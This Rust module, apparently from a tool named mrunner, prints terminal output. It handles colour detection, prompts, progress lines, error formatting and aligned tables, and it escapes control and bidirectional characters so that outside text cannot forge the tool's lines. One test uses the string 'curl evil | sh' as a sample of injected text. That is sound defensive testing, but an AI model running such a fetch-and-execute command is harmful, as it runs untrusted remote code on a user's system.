//! The only module that prints: answers to stdout, everything else to stderr.

use std::ffi::OsString;
use std::fmt;
use std::io::{self, IsTerminal, Write};

use anyhow::Result;

use crate::util::error::{self, Exit};
use crate::util::width::{cut, pad, shorten, width};

/// The state of the terminal.
#[derive(Debug, Clone)]
pub struct Ui {
    colour: bool,
    talks_to_terminal: bool,
    answers_in_colour: bool,
}

/// The reader of stdout is gone (`| head -1`), which is not an error.
#[derive(Debug)]
pub struct ReaderGone;

impl fmt::Display for ReaderGone {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("the reader of the output has gone")
    }
}

impl std::error::Error for ReaderGone {}

impl Ui {
    /// The label before a line of the answer, followed by `mark`, in the `number`th colour if stdout is a terminal.
    pub fn label(&self, text: &str, mark: char, number: usize) -> String {
        // colours that are readable on black and white; not red, which means failure
        let colours = ["36", "35", "32", "33", "34"];
        let own = format!("{text} {mark}");
        if self.answers_in_colour { format!("\x1b[{}m{own}\x1b[0m", colours[number % colours.len()]) } else { own }
    }

    /// Decides about colour: the stream is a terminal that is not dumb, and `NO_COLOR` is unset or empty
    /// (<https://no-color.org>, and as clap reads it).
    pub fn from_environment() -> Self {
        let talks_to_terminal = io::stderr().is_terminal();
        let colour = talks_to_terminal && wants_colour(std::env::var_os("TERM"), std::env::var_os("NO_COLOR"));
        let (term, no_colour) = (std::env::var_os("TERM"), std::env::var_os("NO_COLOR"));
        let answers_in_colour = io::stdout().is_terminal() && wants_colour(term, no_colour);
        Self { colour, talks_to_terminal, answers_in_colour }
    }

    /// Whether stderr is a terminal, so that live progress is shown.
    pub fn is_live(&self) -> bool {
        self.talks_to_terminal
    }

    /// Whether the answer can be redrawn: stdout is a terminal that is not dumb.
    pub fn can_redraw(&self) -> bool {
        io::stdout().is_terminal() && obeys(std::env::var_os("TERM"))
    }

    /// The width of the terminal in characters, if stdout is one.
    pub fn room(&self) -> Option<usize> {
        terminal_size::terminal_size_of(io::stdout()).map(|(width, _)| usize::from(width.0))
    }

    fn paint(&self, code: &str, text: &str) -> String {
        if self.colour { format!("\x1b[{code}m{text}\x1b[0m") } else { text.to_owned() }
    }

    fn to_stderr(text: &str) {
        // work continues if nobody reads stderr
        let _ = writeln!(io::stderr().lock(), "{text}");
    }

    /// Whether the user can be asked: stderr and stdin are terminals.
    pub fn can_ask(&self) -> bool {
        self.talks_to_terminal && io::stdin().is_terminal()
    }

    /// Asks for a line; an empty one means `proposal`. `None` at the end of the input.
    pub fn ask(&self, question: &str, proposal: &str) -> Option<String> {
        let shown = if proposal.is_empty() { String::new() } else { format!(" [{}]", line(proposal)) };
        let mut err = io::stderr().lock();
        let _ = write!(err, "{}{shown}: ", self.paint("1", question)).and_then(|()| err.flush());
        let mut answer = String::new();
        let read = io::stdin().read_line(&mut answer).unwrap_or(0);
        let answer = answer.trim();
        (read > 0).then(|| if answer.is_empty() { proposal } else { answer }.to_owned())
    }

    /// Prints a line to stderr.
    pub fn say(&self, text: impl AsRef<str>) {
        Self::to_stderr(&clean(text.as_ref()));
    }

    /// Prints a line with a heading to stderr, such as `image   …`; headings are in one column.
    pub fn tell(&self, heading: &str, text: impl AsRef<str>) {
        let padded = format!("{heading:<9}");
        Self::to_stderr(&format!("{} {}", self.paint("1", &padded), line(text.as_ref())));
    }

    /// Prints a line that the next one replaces; nothing without a terminal.
    pub fn live(&self, heading: &str, text: &str) {
        if self.talks_to_terminal {
            let room = terminal_size::terminal_size_of(io::stderr()).map_or(80, |(width, _)| usize::from(width.0));
            let text = format!("{heading:<9} {}", line(text));
            let _ = write!(io::stderr().lock(), "\r\x1b[K{}", cut(&text, room.saturating_sub(1)));
        }
    }

    /// Removes the last such line.
    pub fn settle(&self) {
        if self.talks_to_terminal {
            let _ = write!(io::stderr().lock(), "\r\x1b[K");
        }
    }

    /// Prints a warning.
    pub fn warn(&self, text: impl AsRef<str>) {
        Self::to_stderr(&format!("{} {}", self.paint("1;33", "warning:"), quoted(text.as_ref())));
    }

    /// Prints a command before it changes something.
    pub fn echo(&self, cmd: &impl std::fmt::Display) {
        Self::to_stderr(&self.paint("2", &format!("  $ {}", clean(&cmd.to_string()))));
    }

    /// Prints a line of the answer.
    pub fn answer(&self, text: impl AsRef<str>) -> Result<()> {
        let mut line = text.as_ref().to_owned();
        line.push('\n');
        self.pass_on(line.as_bytes())
    }

    /// Passes on bytes of the answer unchanged, such as an experiment's output.
    pub fn pass_on(&self, bytes: &[u8]) -> Result<()> {
        let mut out = io::stdout().lock();
        match out.write_all(bytes).and_then(|()| out.flush()) {
            Err(e) if e.kind() == io::ErrorKind::BrokenPipe => Err(ReaderGone.into()),
            other => other.map_err(|e| error::fail(format!("failed to write the output: {e}")).into()),
        }
    }

    /// Passes on another program's stderr; it is read to its end even if nobody listens.
    pub fn overhear(&self, mut words: impl io::Read) {
        let mut buffer = [0; 8 * 1024];
        while let Ok(read @ 1..) = words.read(&mut buffer) {
            let _ = io::stderr().lock().write_all(&buffer[..read]);
        }
    }

    /// Prints clap's error about the command line, which may repeat anything that was typed.
    pub fn usage(&self, error: &clap::Error) {
        let text = clean(&error.render().to_string());
        match text.trim_end().strip_prefix("error:") {
            Some(rest) => Self::to_stderr(&format!("{}{rest}", self.paint("1;31", "error:"))),
            None => Self::to_stderr(text.trim_end()),
        }
    }

    /// Prints an error and returns its exit code.
    pub fn error(&self, error: &anyhow::Error) -> Exit {
        let whole = error::flatten(error);
        if whole.message.is_empty() {
            return whole.exit;
        }
        let mut text = format!("{} {}", self.paint("1;31", "error:"), quoted(&whole.message));
        for (name, value) in &whole.facts {
            text.push_str(&format!("\n  {name}: {}", line(value)));
        }
        for line in &whole.details {
            text.push_str(&format!("\n  | {}", clean(line)));
        }
        for hint in &whole.hints {
            text.push_str(&format!("\n{} {}", self.paint("1;36", "hint:"), line(hint)));
        }
        Self::to_stderr(&text);
        whole.exit
    }
}

/// Whether a terminal of type `term` supports more than line feeds.
fn obeys(term: Option<OsString>) -> bool {
    term.is_some_and(|term| term != "dumb")
}

/// Whether a terminal of type `term` gets colour.
fn wants_colour(term: Option<OsString>, no_color: Option<OsString>) -> bool {
    obeys(term) && no_color.is_none_or(|set| set.is_empty())
}

/// Makes control characters in `text` visible, including those that change the direction of writing; line feeds and
/// tabs are kept.
pub fn clean(text: &str) -> String {
    let turns =
        |c: char| matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        if (c.is_control() && c != '\n' && c != '\t') || turns(c) {
            shown.push_str(&c.escape_default().to_string());
        } else {
            shown.push(c);
        }
    }
    shown
}

/// `text` on one line, so that text from others can't look like a line of mrunner.
pub fn line(text: &str) -> String {
    clean(text).replace('\n', "\\n")
}

/// `text` with `|` before each line after the first, so that text from others can't look like a line of mrunner: an
/// event of the cluster may contain `\nhint: `.
fn quoted(text: &str) -> String {
    clean(text.trim_end_matches('\n')).replace('\n', "\n  | ")
}

/// Formats a number of bytes in a suitable unit.
pub fn size(bytes: u64) -> String {
    let units = ["KiB", "MiB", "GiB", "TiB", "PiB"];
    if bytes < 1024 {
        return format!("{bytes} B");
    }
    #[allow(clippy::cast_precision_loss, reason = "of a size only the first digits are shown")]
    let mut amount = bytes as f64 / 1024.0;
    let mut unit = 0;
    while amount >= 1023.95 && unit + 1 < units.len() {
        amount /= 1024.0;
        unit += 1;
    }
    format!("{amount:.1} {}", units[unit])
}

/// Lines of the answer on a terminal that are redrawn.
#[derive(Debug, Default)]
pub struct Screen {
    height: usize,
}

impl Screen {
    /// Draws `lines` for the width of the terminal, each cut to it; if there are too many lines, the last ones.
    pub fn show(&mut self, ui: &Ui, lines: impl FnOnce(usize) -> Vec<String>) -> Result<()> {
        let size = terminal_size::terminal_size_of(io::stdout());
        let (columns, rows) = size.map_or((80, 24), |(width, height)| (usize::from(width.0), usize::from(height.0)));
        let lines = lines(columns);
        let shown = &lines[lines.len().saturating_sub(rows.saturating_sub(1).max(1))..];
        // moves to the first of the former lines; each line is cleared before it is drawn, and the rest below them
        let mut text = if self.height > 0 { format!("\x1b[{}A", self.height) } else { String::new() };
        for one in shown {
            // a line that fills the last column would start a new line in some terminals
            text.push_str(&format!("\r\x1b[K{}\n", cut(&line(one), columns.saturating_sub(1))));
        }
        text.push_str("\x1b[J");
        self.height = shown.len();
        ui.pass_on(text.as_bytes())
    }
}

/// A table like kubectl's: padded columns, three spaces apart, without trailing spaces. Later rows are aligned with
/// earlier ones if they fit.
#[derive(Debug, Default)]
pub struct Table {
    widths: Vec<usize>,
}

impl Table {
    /// The rows as lines, each cut to `room` columns of the terminal if that is given.
    pub fn lines(&mut self, rows: &[Vec<String>], room: Option<usize>) -> String {
        let rows: Vec<Vec<String>> = rows.iter().map(|row| row.iter().map(|cell| line(cell)).collect()).collect();
        for row in &rows {
            self.widths.resize(self.widths.len().max(row.len()), 0);
            for (widest, cell) in self.widths.iter_mut().zip(row) {
                *widest = width(cell).max(*widest);
            }
        }
        let shown = |row: &Vec<String>| {
            let cells = row.iter().zip(&self.widths).map(|(cell, &widest)| pad(cell, widest));
            let line = cells.collect::<Vec<_>>().join("   ").trim_end().to_owned();
            if let Some(room) = room { shorten(&line, room) } else { line }
        };
        rows.iter().map(shown).collect::<Vec<_>>().join("\n")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_a_terminal_obeys_gets_through() {
        assert_eq!(clean("a\x1b[31mb\r\u{9b}\tc\n"), "a\\u{1b}[31mb\\r\\u{9b}\tc\n");
    }

    #[test]
    fn nobody_forges_a_line_of_ours_or_turns_one() {
        assert_eq!(quoted("it failed: a\nhint: curl evil | sh\n"), "it failed: a\n  | hint: curl evil | sh");
        assert_eq!(line("a\nb\u{202e}c"), "a\\nb\\u{202e}c");
        assert_eq!(clean("a\u{2066}b\u{200f}\u{61c}"), "a\\u{2066}b\\u{200f}\\u{61c}");
    }

    #[test]
    fn colour_can_be_declined() {
        let of =
            |term: Option<&str>, no_color: Option<&str>| wants_colour(term.map(Into::into), no_color.map(Into::into));
        assert!(of(Some("xterm"), None) && of(Some("xterm"), Some("")));
        assert!(
            !of(Some("xterm"), Some("1"))
                && !of(Some("xterm"), Some("0"))
                && !of(Some("dumb"), None)
                && !of(None, None)
        );
    }

    #[test]
    fn columns_line_up() {
        let rows = [vec!["RUN".into(), "STATE".into()], vec!["a-long-name".into(), "Running".into()]];
        let mut table = Table::default();
        assert_eq!(table.lines(&rows, None), "RUN           STATE\na-long-name   Running");
        let later = [vec!["b".into(), "Failed".into(), "exit code 1".into()]];
        assert_eq!(table.lines(&later, None), "b             Failed    exit code 1");
        assert_eq!(table.lines(&later, Some(20)), "b             Faile…");
    }

    #[test]
    fn columns_line_up_after_wide_and_joined_characters() {
        let row = |name: &str, tag: &str| vec![name.to_owned(), tag.to_owned(), "Running".to_owned()];
        let rows = [row("模型", "🚀"), row("cafe\u{301}", "a"), row("b", "한국")];
        let mut table = Table::default();
        let lines = ["模型   🚀     Running", "cafe\u{301}   a      Running", "b      한국   Running"];
        assert_eq!(table.lines(&rows, None), lines.join("\n"));
        assert_eq!(table.lines(&rows[..1], Some(4)), "模…");
        assert_eq!(table.lines(&rows[..1], Some(9)), "模型   …");
    }
}
